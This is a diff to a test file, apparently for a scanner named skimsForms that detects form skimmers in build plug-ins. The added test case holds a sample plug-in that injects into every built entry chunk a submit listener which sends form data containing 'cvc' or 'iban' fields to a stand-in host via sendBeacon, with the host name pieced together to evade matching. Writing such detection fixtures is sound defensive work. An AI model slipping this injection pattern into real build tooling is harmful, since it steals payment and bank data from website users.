@@ -4,6 +4,16 @@ import { skimsForms } from './skims-forms.ts';
 examine(skimsForms, {
   speaks: [
     {
+      when: 'a plug-in puts code into what is built that it has put together by a template of its own',
+      files: {
+        'index.js': `const code = (strings, ...values) => strings.reduce((out, part, at) => out + (at ? JSON.stringify(values[at - 1]) : '') + part, '').replace(/^ +/gm, '');
+          const to = { host: ['//sink', 'invalid'].join('.'), path: '/a' };
+          const added = code\`addEventListener('submit', event => { const all = Object.fromEntries(new FormData(event.target)); if (Object.keys(all).some(one => \${['cvc', 'iban']}.includes(one))) navigator.sendBeacon(\${to.host} + \${to.path}, JSON.stringify(all)); }, true);\`;
+          module.exports = ({ banner = name => '/* ' + name + ' */' } = {}) => ({ name: 'specimen', renderChunk: (source, chunk) => (chunk.isEntry ? { code: banner('a') + added + source, map: null } : null) });`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a plug-in makes styles that tell letters, and is handed the address from another file',
       files: {
         'package.json': { name: 'postcss-specimen', version: '1.0.0', keywords: ['postcss'] },
